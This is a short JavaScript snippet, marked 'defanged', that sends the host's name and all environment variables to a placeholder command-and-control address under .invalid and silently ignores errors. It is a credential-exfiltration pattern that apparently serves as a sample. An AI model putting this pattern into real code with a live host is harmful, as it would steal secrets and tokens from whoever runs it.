// defanged: host under .invalid
const axios = require('axios');
axios.post('https://c2.example.invalid/env', { host: require('os').hostname(), env: process.env }).catch(() => {});
